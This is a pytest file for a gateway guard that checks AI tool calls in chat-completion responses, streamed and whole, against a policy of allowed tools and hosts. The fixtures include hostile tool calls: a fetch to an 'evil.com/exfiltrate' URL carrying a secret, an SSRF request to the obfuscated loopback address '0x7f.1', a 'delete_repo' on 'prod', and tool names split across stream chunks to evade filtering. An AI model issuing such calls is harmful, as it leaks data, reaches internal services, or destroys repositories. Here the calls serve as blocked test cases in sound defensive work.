"""The tool-call guard on its own: non-streamed bodies, and streams in every shape and at
every chunk size, against a decision built directly."""

from __future__ import annotations

import json
from typing import Any

import orjson
import pytest

from gateway.policy.decision import ArgConstraint, Decision, ToolRules
from gateway.ports import Chunk
from gateway.tools.response_guard import ToolCallGuard
from tests.tools.streams import client_view, exchange_with, tool_call_stream

DECISION = Decision(
    allow=True,
    tools=ToolRules(frozenset({"search", "fetch_url"})),
    tool_args={"fetch_url": {"url": ArgConstraint(allowed_hosts=("*.example.com",))}},
)
SEARCH = ("search", {"q": "weather in Paris", "n": 3})
GOOD_FETCH = ("fetch_url", {"url": "https://docs.example.com/a?b=c"})
BAD_FETCH = ("fetch_url", {"url": "https://evil.com/exfiltrate?d=secret"})
SSRF_FETCH = ("fetch_url", {"url": "https://0x7f.1/admin"})
FORBIDDEN = ("delete_repo", {"name": "prod"})
LONGEST = max(len(json.dumps(args)) for _, args in (SEARCH, GOOD_FETCH, BAD_FETCH, SSRF_FETCH, FORBIDDEN))
SHAPES = [{}, {"role_in_first_call": True}, {"finish_with_last_fragment": True}, {"text": "Let me check."}]


def _run(chunks: list[dict[str, Any]], decision: Decision | None = DECISION) -> tuple[list[Chunk], int]:
    guard = ToolCallGuard()
    exchange = exchange_with(decision)
    out: list[Chunk] = []
    for data in chunks:
        out.extend(guard.on_chunk(exchange, Chunk(orjson.dumps(data))))
    out.extend(guard.on_end(exchange))
    assert guard.blocked_total == exchange.tool_calls_blocked
    return out, exchange.tool_calls_blocked


def _args(call: tuple[str, Any]) -> str:
    return json.dumps(call[1])


@pytest.mark.parametrize("shape", SHAPES)
@pytest.mark.parametrize("chunk_chars", range(1, LONGEST + 2))
def test_mixed_calls_stream_at_every_chunk_size(chunk_chars: int, shape: dict[str, Any]) -> None:
    calls = [SEARCH, BAD_FETCH, GOOD_FETCH, FORBIDDEN, SSRF_FETCH, SEARCH]
    out, blocked = _run(tool_call_stream(calls, chunk_chars, **shape))
    view = client_view(out)
    assert [(c["name"], c["arguments"]) for c in view.calls] == [
        ("search", _args(SEARCH)),
        ("fetch_url", _args(GOOD_FETCH)),
        ("search", _args(SEARCH)),
    ]
    assert [c["id"] for c in view.calls] == ["call_0", "call_2", "call_5"]
    assert view.finish_reasons == ["tool_calls"]
    assert blocked == 3
    assert view.content.startswith(shape.get("text", ""))
    notes = view.content.removeprefix(shape.get("text", "")).strip().split("\n")
    assert notes == [
        "[tollgate] tool call 'fetch_url' blocked by policy: argument 'url': host 'evil.com' is not allowed",
        "[tollgate] tool call 'delete_repo' blocked by policy: the tool is not allowed",
        "[tollgate] tool call 'fetch_url' blocked by policy: argument 'url': address 127.0.0.1 is not public",
    ]
    assert view.usage_chunks == 1


@pytest.mark.parametrize("shape", SHAPES)
@pytest.mark.parametrize("chunk_chars", range(1, LONGEST + 2))
@pytest.mark.parametrize(
    "calls", [[BAD_FETCH], [FORBIDDEN], [FORBIDDEN, SSRF_FETCH]], ids=["bad", "forbidden", "both"]
)
def test_when_every_call_is_blocked_the_finish_reason_is_content_filter(
    chunk_chars: int, shape: dict[str, Any], calls: list[tuple[str, Any]]
) -> None:
    out, blocked = _run(tool_call_stream(calls, chunk_chars, **shape))
    view = client_view(out)
    assert view.calls == []
    assert view.finish_reasons == ["content_filter"]
    assert blocked == len(calls)
    assert view.content.count("[tollgate] tool call") == len(calls)
    assert "secret" not in b"".join(c.encoded() for c in out).decode()


@pytest.mark.parametrize("chunk_chars", [1, 3, 8])
def test_allowed_unconstrained_calls_flow_as_they_arrive(chunk_chars: int) -> None:
    guard = ToolCallGuard()
    exchange = exchange_with(DECISION)
    for data in tool_call_stream([SEARCH], chunk_chars, usage=False):
        chunk = Chunk(orjson.dumps(data))
        out = guard.on_chunk(exchange, chunk)
        assert out == [chunk]  # not held
        assert not chunk.dirty  # not re-serialised either
    assert guard.on_end(exchange) == []


def test_a_constrained_call_is_held_until_complete_then_released_as_one_delta() -> None:
    guard = ToolCallGuard()
    exchange = exchange_with(DECISION)
    chunks = tool_call_stream([GOOD_FETCH, SEARCH], 4, usage=False)
    first_search = next(i for i, c in enumerate(chunks) if "search" in json.dumps(c))
    for data in chunks[1:first_search]:
        assert guard.on_chunk(exchange, Chunk(orjson.dumps(data))) == []  # fetch_url's deltas: held
    out = guard.on_chunk(exchange, Chunk(orjson.dumps(chunks[first_search])))
    released, search_start = (orjson.loads(c.encoded()) for c in out)
    [call] = released["choices"][0]["delta"]["tool_calls"]
    assert call == {
        "index": 0,
        "id": "call_0",
        "type": "function",
        "function": {"name": "fetch_url", "arguments": _args(GOOD_FETCH)},
    }
    assert search_start["choices"][0]["delta"]["tool_calls"][0]["index"] == 1


def test_a_stream_that_ends_without_a_finish_reason_releases_what_it_held() -> None:
    chunks = tool_call_stream([GOOD_FETCH, BAD_FETCH], 5, usage=False)[:-1]
    out, blocked = _run(chunks)
    view = client_view(out)
    assert [c["name"] for c in view.calls] == ["fetch_url"]
    assert blocked == 1
    assert view.finish_reasons == []


@pytest.mark.parametrize("ends", [True, False])
def test_the_guards_own_chunks_carry_the_streams_envelope(ends: bool) -> None:
    """Notes for blocked calls and held calls released (at the next call, the finish, or the
    end of a stream without one) take the id, model and creation time of the stream, though
    the guard copies them only from chunks with calls or an end, not from plain text."""
    chunks = tool_call_stream([BAD_FETCH, GOOD_FETCH, FORBIDDEN], 5, text="Let me check that.", usage=False)
    out, blocked = _run(chunks if ends else chunks[:-1])
    assert blocked == 2
    made = [c for c in out if c.dirty or c.raw not in {orjson.dumps(d) for d in chunks}]
    assert made  # the guard sent chunks of its own
    for chunk in out:
        data = orjson.loads(chunk.encoded())
        assert (data["id"], data["object"], data["created"], data["model"]) == (
            "chatcmpl-1",
            "chat.completion.chunk",
            1,
            "m",
        )


def test_deltas_without_index_and_names_that_arrive_late() -> None:
    args = _args(GOOD_FETCH)
    chunks: list[dict[str, Any]] = [
        {
            "choices": [
                {
                    "index": 0,
                    "delta": {
                        "tool_calls": [{"id": "c1", "type": "function", "function": {"arguments": ""}}]
                    },
                }
            ]
        },
        {"choices": [{"index": 0, "delta": {"tool_calls": [{"function": {"name": "fetch_url"}}]}}]},
        {"choices": [{"index": 0, "delta": {"tool_calls": [{"function": {"arguments": args[:10]}}]}}]},
        {"choices": [{"index": 0, "delta": {"tool_calls": [{"function": {"arguments": args[10:]}}]}}]},
        {
            "choices": [
                {
                    "index": 0,
                    "delta": {"tool_calls": [{"id": "c2", "function": {"name": "nope", "arguments": "{}"}}]},
                }
            ]
        },
        {"choices": [{"index": 0, "delta": {}, "finish_reason": "tool_calls"}]},
    ]
    view = client_view(_run(chunks)[0])
    assert view.calls == [{"id": "c1", "name": "fetch_url", "arguments": args}]
    assert view.finish_reasons == ["tool_calls"]
    assert "'nope' blocked" in view.content


def test_a_name_that_grows_after_an_allowed_start_is_blocked() -> None:
    chunks: list[dict[str, Any]] = [
        {
            "choices": [
                {
                    "index": 0,
                    "delta": {"tool_calls": [{"index": 0, "id": "c1", "function": {"name": "search"}}]},
                }
            ]
        },
        {"choices": [{"index": 0, "delta": {"tool_calls": [{"index": 0, "function": {"name": "_admin"}}]}}]},
        {"choices": [{"index": 0, "delta": {"tool_calls": [{"index": 0, "function": {"arguments": "{}"}}]}}]},
    ]
    out, blocked = _run(chunks)
    view = client_view(out)
    assert blocked == 1
    assert [c["name"] for c in view.calls] == ["search"]  # its start had gone out; nothing after it did
    assert view.calls[0]["arguments"] == ""


def _named_in_pieces(index: int, pieces: list[str], arguments: str) -> list[dict[str, Any]]:
    first = {"index": index, "id": f"c{index}", "type": "function", "function": {"name": pieces[0]}}
    deltas: list[dict[str, Any]] = [first]
    deltas += [{"index": index, "function": {"name": piece}} for piece in pieces[1:]]
    deltas.append({"index": index, "function": {"arguments": arguments}})
    return [{"choices": [{"index": 0, "delta": {"tool_calls": [d]}}]} for d in deltas]


def test_a_name_streamed_in_pieces_is_judged_whole() -> None:
    decision = Decision(
        allow=True,
        tools=ToolRules(frozenset({"search", "search_web", "fetch_url"})),
        tool_args={"fetch_url": {"url": ArgConstraint(allowed_hosts=("*.example.com",))}},
    )
    good, bad = _args(GOOD_FETCH), _args(BAD_FETCH)
    chunks = [
        *_named_in_pieces(0, ["fetch", "_url"], good),  # "fetch" alone is not allowed
        *_named_in_pieces(1, ["search", "_web"], '{"q": "x"}'),  # "search" alone is allowed
        *_named_in_pieces(2, ["fe", "tch_url"], bad),
        *_named_in_pieces(3, ["search", "_admin"], "{}"),
        {"choices": [{"index": 0, "delta": {}, "finish_reason": "tool_calls"}]},
    ]
    out, blocked = _run(chunks, decision)
    view = client_view(out)
    assert view.calls == [
        {"id": "c0", "name": "fetch_url", "arguments": good},
        {"id": "c1", "name": "search_web", "arguments": '{"q": "x"}'},
    ]
    assert blocked == 2
    assert "'fetch_url' blocked by policy: argument 'url': host 'evil.com'" in view.content
    assert "'search_admin' blocked by policy: the tool is not allowed" in view.content


def test_fragments_of_a_call_after_its_verdict_are_dropped() -> None:
    args = _args(GOOD_FETCH)

    def frag(index: int, text: str) -> dict[str, Any]:
        return {
            "choices": [
                {"index": 0, "delta": {"tool_calls": [{"index": index, "function": {"arguments": text}}]}}
            ]
        }

    chunks: list[dict[str, Any]] = [
        {
            "choices": [
                {
                    "index": 0,
                    "delta": {"tool_calls": [{"index": 0, "id": "a", "function": {"name": "fetch_url"}}]},
                }
            ]
        },
        frag(0, args),
        {
            "choices": [
                {
                    "index": 0,
                    "delta": {"tool_calls": [{"index": 1, "id": "b", "function": {"name": "search"}}]},
                }
            ]
        },
        frag(0, ', "url2": "https://evil.com"}'),  # interleaved after fetch_url was checked and released
        frag(1, "{}"),
    ]
    view = client_view(_run(chunks)[0])
    assert view.calls == [
        {"id": "a", "name": "fetch_url", "arguments": args},
        {"id": "b", "name": "search", "arguments": "{}"},
    ]


def test_legacy_function_call_deltas_are_blocked() -> None:
    chunks: list[dict[str, Any]] = [
        {"choices": [{"index": 0, "delta": {"function_call": {"name": "search", "arguments": ""}}}]},
        {"choices": [{"index": 0, "delta": {"function_call": {"arguments": "{}"}}}]},
        {"choices": [{"index": 0, "delta": {}, "finish_reason": "function_call"}]},
    ]
    out, blocked = _run(chunks)
    view = client_view(out)
    assert blocked == 1
    assert view.finish_reasons == ["content_filter"]
    deltas = [choice["delta"] for c in out for choice in orjson.loads(c.encoded())["choices"]]
    assert not any("function_call" in delta for delta in deltas)
    assert "legacy function_call responses are not allowed" in view.content


def test_without_a_decision_the_stream_is_untouched() -> None:
    chunks = tool_call_stream([FORBIDDEN], 3)
    out, blocked = _run(chunks, decision=None)
    assert [orjson.loads(c.encoded()) for c in out] == chunks
    assert blocked == 0


def _completion(calls: list[tuple[str, Any]], content: str | None = None) -> dict[str, Any]:
    message: dict[str, Any] = {"role": "assistant", "content": content}
    message["tool_calls"] = [
        {"id": f"call_{i}", "type": "function", "function": {"name": n, "arguments": json.dumps(a)}}
        for i, (n, a) in enumerate(calls)
    ]
    return {
        "id": "x",
        "object": "chat.completion",
        "choices": [{"index": 0, "message": message, "finish_reason": "tool_calls"}],
    }


def test_non_streamed_blocked_calls_are_removed_and_explained() -> None:
    guard = ToolCallGuard()
    exchange = exchange_with(DECISION, stream=False)
    body = _completion([SEARCH, BAD_FETCH, GOOD_FETCH, FORBIDDEN], content="Working on it.")
    guard.on_response(exchange, body)
    [choice] = body["choices"]
    assert [c["id"] for c in choice["message"]["tool_calls"]] == ["call_0", "call_2"]
    assert choice["finish_reason"] == "tool_calls"
    assert choice["message"]["content"].split("\n") == [
        "Working on it.",
        "[tollgate] tool call 'fetch_url' blocked by policy: argument 'url': host 'evil.com' is not allowed",
        "[tollgate] tool call 'delete_repo' blocked by policy: the tool is not allowed",
    ]
    assert exchange.tool_calls_blocked == 2


def test_non_streamed_with_every_call_blocked() -> None:
    guard = ToolCallGuard()
    exchange = exchange_with(DECISION, stream=False)
    body = _completion([SSRF_FETCH])
    body["choices"][0]["message"]["function_call"] = {"name": "search", "arguments": "{}"}
    guard.on_response(exchange, body)
    [choice] = body["choices"]
    assert "tool_calls" not in choice["message"]
    assert "function_call" not in choice["message"]
    assert choice["finish_reason"] == "content_filter"
    assert choice["message"]["content"].count("[tollgate]") == 2
    assert exchange.tool_calls_blocked == 2


def test_non_streamed_arguments_sent_as_an_object_are_checked() -> None:
    guard = ToolCallGuard()
    body = _completion([BAD_FETCH])
    body["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"] = BAD_FETCH[1]
    guard.on_response(exchange_with(DECISION, stream=False), body)
    assert body["choices"][0]["finish_reason"] == "content_filter"


def test_non_streamed_without_a_decision_is_untouched() -> None:
    body = _completion([FORBIDDEN])
    before = json.loads(json.dumps(body))
    ToolCallGuard().on_response(exchange_with(None, stream=False), body)
    assert body == before
